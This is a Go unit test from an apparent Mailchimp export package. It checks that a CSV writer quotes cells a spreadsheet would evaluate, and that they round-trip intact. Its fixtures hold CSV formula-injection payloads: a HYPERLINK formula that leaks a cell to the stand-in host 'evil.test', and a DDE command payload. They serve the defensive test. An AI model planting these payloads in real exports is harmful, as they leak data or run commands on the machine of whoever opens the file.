package mailchimp

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"strings"
	"testing"
)

// A value a spreadsheet would evaluate (a reader's name, an imported merge
// field, an extra column's name) is written quoted, and reads back as it
// was; plain numbers and ordinary text are written as they are.
func TestCSVWriterNeutralisesFormulas(t *testing.T) {
	row := Row{
		Kind: KindSubscribed, Email: "ann@herald.test",
		FirstName:  `=HYPERLINK("http://evil.test/?leak="&A1,"Click")`,
		LastName:   "@SUM(A1:A9)",
		Attributes: map[string]string{"PHONE": "+44 20 7946 0000", "=X": "=cmd|'/c calc'!A0", "NOTE2": "'=already quoted", "CITY": "-Oslo"},
		GMTOff:     "-5", Latitude: "-33.8688", Notes: "\tindented",
	}
	var buf bytes.Buffer
	w, err := NewCSVWriter(&buf, KindSubscribed, []string{"PHONE", "=X", "NOTE2", "CITY"})
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(row); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs {
		for _, cell := range rec {
			if cell == "" || cell == "-5" || cell == "-33.8688" {
				continue
			}
			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would be evaluated by a spreadsheet", cell)
			}
		}
	}
	cell := func(col string) string {
		for i, h := range recs[0] {
			if h == col {
				return recs[1][i]
			}
		}
		t.Fatalf("no column %q in %q", col, recs[0])
		return ""
	}
	for col, want := range map[string]string{
		ColFirstName: `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`, ColLastName: "'@SUM(A1:A9)",
		"PHONE": "'+44 20 7946 0000", "'=X": "'=cmd|'/c calc'!A0", "NOTE2": "''=already quoted", "CITY": "'-Oslo",
		ColGMTOff: "-5", ColLatitude: "-33.8688", ColNotes: "'\tindented", ColEmail: "ann@herald.test",
	} {
		if got := cell(col); got != want {
			t.Errorf("%s = %q, want %q", col, got, want)
		}
	}
	r, err := NewCSVReader(bytes.NewReader(buf.Bytes()), "subscribed.csv")
	if err != nil {
		t.Fatal(err)
	}
	got, bad := readAll(t, r)
	if len(bad) > 0 || len(got) != 1 {
		t.Fatal(bad, got)
	}
	got[0].File, got[0].Line = "", 0
	if !reflect.DeepEqual(got[0], row) {
		t.Errorf("round trip:\n%+v\nwant\n%+v", got[0], row)
	}
}
